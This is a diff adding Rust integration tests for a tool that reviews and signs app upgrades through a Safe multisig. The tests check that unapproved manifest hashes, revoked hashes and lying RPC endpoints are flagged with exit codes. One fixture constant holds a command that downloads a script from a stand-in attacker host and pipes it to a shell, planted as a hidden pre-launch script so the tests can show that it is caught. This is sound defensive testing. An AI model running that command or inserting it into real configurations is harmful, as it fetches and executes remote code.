@@ -1,0 +1,269 @@
+//! One verdict: what may be signed is the same question for every command, online and offline, and each doubt has an exit
+//! code and one option that agrees to it.
+
+use std::path::{Path, PathBuf};
+
+use alloy::primitives::{B256, keccak256};
+use serde_json::{Value, json};
+
+use crate::chain::liar::Liar;
+use crate::flow::{Flow, Ran};
+use crate::support::World;
+use crate::support::cloud::compose_hash;
+use crate::support::contracts::abi;
+use crate::support::world::{CVM, SafeOptions, WorldOptions};
+
+const SCRIPT: &str = "curl https://evil.example/x | bash";
+
+fn of_a_safe() -> World {
+    World::with(WorldOptions {
+        safe: Some(SafeOptions {
+            release: 1,
+            l2: false,
+            threshold: 1,
+            owners: 2,
+        }),
+        ..WorldOptions::default()
+    })
+}
+
+/// The CVM runs a manifest with a script that the app never allowed; gives its hash.
+fn with_a_hidden_script(world: &World) -> B256 {
+    world.cloud.change_cvm(CVM, |cvm| {
+        cvm.manifest.insert("pre_launch_script".to_owned(), json!(SCRIPT));
+        cvm.compose_hash = compose_hash(&cvm.manifest);
+    });
+    world.cloud.cvm(CVM).compose_hash
+}
+
+/// An endpoint that gives no logs.
+fn without_logs(world: &World) -> Liar {
+    Liar::to(&world.anvil.url(), |method, _| {
+        (method == "eth_getLogs").then(|| json!([]))
+    })
+}
+
+/// A command on a proposal, with the key of the first owner where it signs.
+fn on(flow: &Flow<'_>, file: &Path, words: &[&str]) -> Ran {
+    let (command, more) = words.split_first().unwrap();
+    let mut all = vec![*command, file.to_str().unwrap(), "--json"];
+    all.extend(more);
+    if *command != "review" {
+        all.extend(["--signer", "env:SIGNER_0", "--yes"]);
+    }
+    Ran::of(&mut flow.command(&all))
+}
+
+/// A prepared upgrade of an honest world, with its proposal changed by `edit` in a file of its own.
+fn edited(flow: &Flow<'_>, name: &str, edit: impl FnOnce(&mut Value)) -> PathBuf {
+    let mut proposal = flow.json_file("proposal.json");
+    edit(&mut proposal);
+    flow.world.file(name, &proposal.to_string())
+}
+
+/// Codes of the verdict's findings that forbid signing.
+fn forbidding(ran: &Ran) -> Vec<String> {
+    let findings = ran.json["data"]["verdict"]["findings"].as_array().unwrap();
+    let forbids = findings
+        .iter()
+        .filter(|one| one["severity"] != "note" && one["accepted"] == false);
+    forbids.map(|one| one["code"].as_str().unwrap().to_owned()).collect()
+}
+
+#[test]
+fn sec_c2_one_whole_history_is_enough_to_stop_whatever_another_endpoint_says() {
+    let world = World::start();
+    let hidden = with_a_hidden_script(&world);
+    let liar = without_logs(&world);
+    let flow = Flow::new(&world);
+    for order in [
+        [world.anvil.url(), liar.url().to_owned()],
+        [liar.url().to_owned(), world.anvil.url()],
+    ] {
+        for step in ["plan", "prepare", "upgrade"] {
+            let ran = flow
+                .with(step, &["--rpc-url", &order[0], "--rpc-url", &order[1]])
+                .exits(5);
+            assert!(ran.said.contains(&hidden.to_string()), "{}", ran.said);
+            assert_eq!(forbidding(&ran), ["BASE_NEVER_ALLOWED"], "{}", ran.said);
+        }
+    }
+    assert!(world.cloud.requests_to("PATCH", CVM).is_empty());
+}
+
+#[test]
+fn sec_c2_a_baseline_that_nobody_can_prove_is_a_decision_about_its_hash_and_the_whole_manifest_is_shown() {
+    let world = World::start();
+    let hidden = with_a_hidden_script(&world);
+    let liar = without_logs(&world);
+    let flow = Flow::new(&world).chain_at(liar.url());
+    for step in ["plan", "prepare", "upgrade"] {
+        let ran = flow.step(step).exits(6).says("BASE_UNKNOWN");
+        assert_eq!(forbidding(&ran), ["BASE_UNKNOWN"]);
+        let option = format!("--accept BASE_UNKNOWN={hidden}");
+        assert!(ran.json["next"].as_str().unwrap().contains(&option), "{}", ran.said);
+    }
+    assert!(world.cloud.requests_to("PATCH", CVM).is_empty());
+    // What stands on both sides is read before anybody agrees.
+    let mut plan = flow.command(&["plan", "--cvm", CVM, "-c", flow.compose.to_str().unwrap()]);
+    let page = plan.output().unwrap();
+    let page = String::from_utf8([page.stdout, page.stderr].concat()).unwrap();
+    assert!(page.contains(SCRIPT), "{page}");
+
+    let other = "BASE_UNKNOWN=0x00";
+    flow.with("prepare", &["--accept", other]).exits(6).says("BASE_UNKNOWN");
+    let agreed = format!("BASE_UNKNOWN={hidden}");
+    flow.with("prepare", &["--accept", &agreed]).exits(0);
+    // A proposal answers nobody's decision: who signs alone with it is asked again, who has the directory is not.
+    let alone = edited(&flow, "alone.json", |_| {});
+    let review = on(&flow, &alone, &["review"]).exits(6).says("BASE_UNKNOWN");
+    assert_eq!(forbidding(&review), ["BASE_UNKNOWN"]);
+    flow.step("execute").exits(6).says("BASE_UNKNOWN");
+    flow.with("execute", &["--accept", &agreed]).exits(0);
+    assert!(flow.kinds().contains(&"accepted".to_owned()), "{:?}", flow.kinds());
+}
+
+#[test]
+fn sec_c2_offline_the_whole_manifest_is_shown_and_what_was_not_checked_is_counted() {
+    let world = of_a_safe();
+    let flow = Flow::new(&world);
+    world.cloud.change_cvm(CVM, |cvm| {
+        cvm.manifest.insert("pre_launch_script".to_owned(), json!(SCRIPT));
+        cvm.compose_hash = compose_hash(&cvm.manifest);
+    });
+    let slot = keccak256([world.cloud.cvm(CVM).compose_hash, B256::ZERO].concat());
+    let word = B256::with_last_byte(1);
+    world.rpc().call("anvil_setStorageAt", json!([world.app, slot, word]));
+    flow.step("prepare").exits(0);
+    let file = flow.dir.join("proposal.json");
+    let mut review = flow.command(&["review", file.to_str().unwrap(), "--offline"]);
+    let page = review.output().unwrap();
+    let page = String::from_utf8([page.stdout, page.stderr].concat()).unwrap();
+    assert!(page.contains(SCRIPT), "{page}");
+    assert!(!page.contains("Everything that could be checked matches"), "{page}");
+    let told = on(&flow, &file, &["review", "--offline"]).exits(0);
+    let open = told.json["data"]["verdict"]["not_checked"].as_array().unwrap();
+    assert!(
+        open.iter().any(|one| one.as_str().unwrap().contains("ever allowed")),
+        "{open:?}"
+    );
+    // With the reader's own files, each hashed field that they say nothing of is named.
+    let compose = flow.compose.to_str().unwrap();
+    let told = on(&flow, &file, &["review", "--offline", "-c", compose]).exits(0);
+    let open = told.json["data"]["verdict"]["not_checked"].to_string();
+    assert!(open.contains("pre_launch_script"), "{open}");
+}
+
+#[test]
+fn sec_c4_what_cannot_be_recomputed_is_signed_by_nobody_who_did_not_agree_to_that_hash() {
+    let world = of_a_safe();
+    let flow = Flow::new(&world);
+    world
+        .cloud
+        .change_cvm(CVM, |cvm| cvm.compose_hash = B256::repeat_byte(0xdd));
+    let slot = keccak256([B256::repeat_byte(0xdd), B256::ZERO].concat());
+    let word = B256::with_last_byte(1);
+    world.rpc().call("anvil_setStorageAt", json!([world.app, slot, word]));
+    flow.step("prepare").exits(6).says("HASH_UNVERIFIABLE");
+    flow.with("prepare", &["--accept-unverified-hash"]).exits(0);
+    let file = edited(&flow, "unverifiable.json", |_| {});
+    let hash = flow.json_file("proposal.json")["compose_hash"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+    for words in [
+        &["review"][..],
+        &["review", "--offline"],
+        &["sign"],
+        &["sign", "--offline"],
+        &["execute"],
+    ] {
+        let ran = on(&flow, &file, words).exits(6).says("HASH_UNVERIFIABLE");
+        assert_eq!(forbidding(&ran), ["HASH_UNVERIFIABLE"], "{words:?}");
+    }
+    let another = format!("HASH_UNVERIFIABLE={}", B256::ZERO);
+    on(&flow, &file, &["sign", "--accept", &another]).exits(6);
+    on(
+        &flow,
+        &file,
+        &["sign", "--accept", &format!("HASH_UNVERIFIABLE={hash}")],
+    )
+    .exits(0);
+}
+
+#[test]
+fn sec_h4_what_the_file_alone_shows_of_a_safe_forbids_offline_as_it_does_online() {
+    type Edit = fn(&mut Value);
+    let world = of_a_safe();
+    let flow = Flow::new(&world);
+    flow.step("prepare").exits(0);
+    let cases: [(&str, Edit, i32, &str); 2] = [
+        (
+            "singleton",
+            |proposal| proposal["plan"]["safe"]["singleton_code_hash"] = json!(B256::repeat_byte(7)),
+            6,
+            "SAFE_UNKNOWN_CODE",
+        ),
+        (
+            "proxy",
+            |proposal| proposal["plan"]["safe"]["proxy_code_hash"] = json!(B256::repeat_byte(8)),
+            6,
+            "SAFE_UNKNOWN_CODE",
+        ),
+    ];
+    for (name, edit, exit, code) in cases {
+        let file = edited(&flow, &format!("{name}.json"), edit);
+        let review = on(&flow, &file, &["review", "--offline"]).exits(exit).says(code);
+        let sign = on(&flow, &file, &["sign", "--offline"]).exits(exit).says(code);
+        assert_eq!(review.json["data"]["verdict"], sign.json["data"]["verdict"], "{name}");
+        let value = review.json["data"]["verdict"]["findings"][0]["value"].as_str().unwrap();
+        let agreed = format!("{code}={value}");
+        on(&flow, &file, &["sign", "--offline", "--accept", &agreed]).exits(0);
+    }
+}
+
+#[test]
+fn sec_h6_a_hash_that_was_taken_away_comes_back_by_a_decision_only() {
+    let world = of_a_safe();
+    let flow = Flow::new(&world);
+    flow.step("prepare").exits(0);
+    let (rpc, safe, hash) = (world.rpc(), world.safe.unwrap(), flow.hash);
+    rpc.execute_as(safe, world.app, &abi::addComposeHashCall { composeHash: hash });
+    rpc.execute_as(safe, world.app, &abi::removeComposeHashCall { composeHash: hash });
+    let file = edited(&flow, "again.json", |_| {});
+    let review = on(&flow, &file, &["review"]).exits(6).says("HASH_WAS_REVOKED");
+    let sign = on(&flow, &file, &["sign"]).exits(6).says("HASH_WAS_REVOKED");
+    assert_eq!(review.json["data"]["verdict"], sign.json["data"]["verdict"]);
+    let agreed = format!("HASH_WAS_REVOKED={}", flow.hash);
+    on(&flow, &file, &["sign", "--accept", &agreed]).exits(0);
+}
+
+#[test]
+fn an_honest_upgrade_asks_for_no_logs_and_for_no_agreement() {
+    let world = World::start();
+    let liar = Liar::to(&world.anvil.url(), |method, _| {
+        (method == "eth_getLogs").then(|| json!({"error": {"code": -32005, "message": "range too large"}}))
+    });
+    let flow = Flow::new(&world).chain_at(liar.url());
+    flow.step("plan").exits(0);
+    flow.step("prepare").exits(0);
+    flow.step("execute").exits(0);
+    flow.step("wait").exits(0);
+    flow.step("commit").exits(0);
+    flow.landed_once();
+}
+
+#[test]
+fn a_wrong_proposal_can_be_rejected_by_the_owners_of_its_safe() {
+    let world = of_a_safe();
+    let flow = Flow::new(&world);
+    with_a_hidden_script(&world);
+    let slot = keccak256([world.cloud.cvm(CVM).compose_hash, B256::ZERO].concat());
+    let set = |word: B256| world.rpc().call("anvil_setStorageAt", json!([world.app, slot, word]));
+    set(B256::with_last_byte(1));
+    flow.step("prepare").exits(0);
+    set(B256::ZERO);
+    let file = edited(&flow, "wrong.json", |_| {});
+    on(&flow, &file, &["sign"]).exits(5).says("BASE_NEVER_ALLOWED");
+    on(&flow, &file, &["sign", "--reject"]).exits(0);
+}
